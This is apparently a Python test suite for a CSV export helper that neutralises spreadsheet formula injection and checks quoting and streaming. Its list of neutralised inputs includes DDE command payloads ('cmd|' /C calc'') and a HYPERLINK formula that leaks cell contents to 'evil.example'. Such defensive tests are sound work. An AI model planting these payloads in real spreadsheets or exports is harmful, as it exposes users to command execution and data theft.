"""A cell is never a formula, whatever somebody typed; numbers, dates and sentences stay what they are."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from ogcapi.csv_cells import cell, lines

COMPUTED = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(A1:A9)",
    "|calc",
    '=HYPERLINK("https://evil.example/?"&A1)',
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2028=1+1",
    "\tindented",
    "\x00",
    "\x07bell",
    "\u0085next line",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\uff5ccalc",
    "+33 6 12 34 56 78",
    "+33612345678",
    "-",
    "--",
    "-1;=1+1",
    "-1.2.3",
    "-١",  # Arabic digits are no number of ours
]
PLAIN = [
    "",
    " ",
    "rue Jean-Jaurès",
    "x=1",
    "x;=1+1",
    'il a dit "non"',
    "1+1",
    "06 12",
    "'",
    "élève",
    "-12",
    "-12.5",
    "-12,5",
    "-1e-07",
    "44.5594",
    "première ligne\n=1+1",
    "a\ttab",
    "<b>",
]


@pytest.mark.parametrize("text", COMPUTED)
def test_what_begins_like_a_formula_is_text(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_what_does_not_stays_as_it_is(text):
    assert cell(text) == text


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (-3, "-3"),
        (-0.5, "-0.5"),
        (Decimal("-1.50"), "-1.50"),
        (date(2026, 11, 22), "2026-11-22"),
        (datetime(2026, 11, 22, 8, 30, tzinfo=UTC), "2026-11-22T08:30:00+00:00"),
    ],
)
def test_other_values(value, text):
    assert cell(value) == text


def test_a_table_is_quoted_throughout_and_begins_with_the_mark():
    head, row = lines(["name", "=evil"], [['=1+1;"x"', -4]])
    assert head == '\ufeff"name";"\'=evil"\r\n'
    assert row == '"\'=1+1;""x""";"-4"\r\n'


def test_every_row_is_read_back_as_one_row():
    rows = [[text, "next"] for text in COMPUTED + PLAIN if "\0" not in text]
    text = "".join(lines(["text", "other"], rows))
    read = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert read == [["text", "other"], *([cell(value), "next"] for value, _ in rows)]


def test_a_table_is_written_while_it_is_read():
    def endless():
        while True:
            yield ["row"]

    table = lines(["name"], endless())
    assert [next(table) for _ in range(3)][2] == '"row"\r\n'


def test_several_are_one_text_and_no_formula_either():
    assert cell(["gap", "veynes"]) == "gap, veynes"
    assert cell(("=1", "2")) == "'=1, 2"
    assert cell([]) == ""
